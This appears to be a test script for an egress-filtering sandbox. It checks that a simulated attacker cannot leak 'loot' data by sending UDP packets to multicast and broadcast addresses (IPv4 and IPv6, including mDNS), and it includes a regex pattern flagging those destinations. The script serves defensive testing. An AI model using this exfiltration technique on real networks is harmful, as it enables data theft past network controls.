#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: tells the neighbours on the link by multicast and broadcast
# stopped-by: sendmsg4, sendmsg6, egress
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena udp/9000
ALSO_FORBIDDEN=' (224|239|255|ff[0-9a-f][0-9a-f])[.:]| 192\.0\.2\.255 '

attack_by <<'PYTHON'
from attacker import *

def send(tag, target, port=9000, connected=False):
    with attempt(tag):
        sock = udp(target)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(*((socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth0"))
                          if ":" in target else (socket.SOL_IP, socket.IP_MULTICAST_IF, socket.inet_aton(OWN4))))
        if connected:
            sock.connect((target, port))
            sock.send(loot(tag))
        else:
            sock.sendto(loot(tag), (target, port))

send("all4", "224.0.0.1")
send("mdns4", "224.0.0.251", 5353)
send("group4", "239.1.2.3")
send("connected", "239.1.2.3", connected=True)
send("broadcast", "192.0.2.255")
send("limited", "255.255.255.255")
send("all6", "ff02::1")
send("mdns6", "ff02::fb", 5353)
send("site6", "ff05::1:3")
PYTHON
client ip route add 224.0.0.0/4 dev eth0
client ip route add 255.255.255.255 dev eth0
works stolen:all4 stolen:mdns4 stolen:group4 stolen:connected stolen:broadcast stolen:limited stolen:all6 stolen:mdns6 \
	stolen:site6
gate_on "$CG" --allow 198.51.100.3/32=udp/5353 # so that the port is not the reason
forget
stopped
recorded sendmsg4 destination
recorded sendmsg6 destination
recorded egress destination
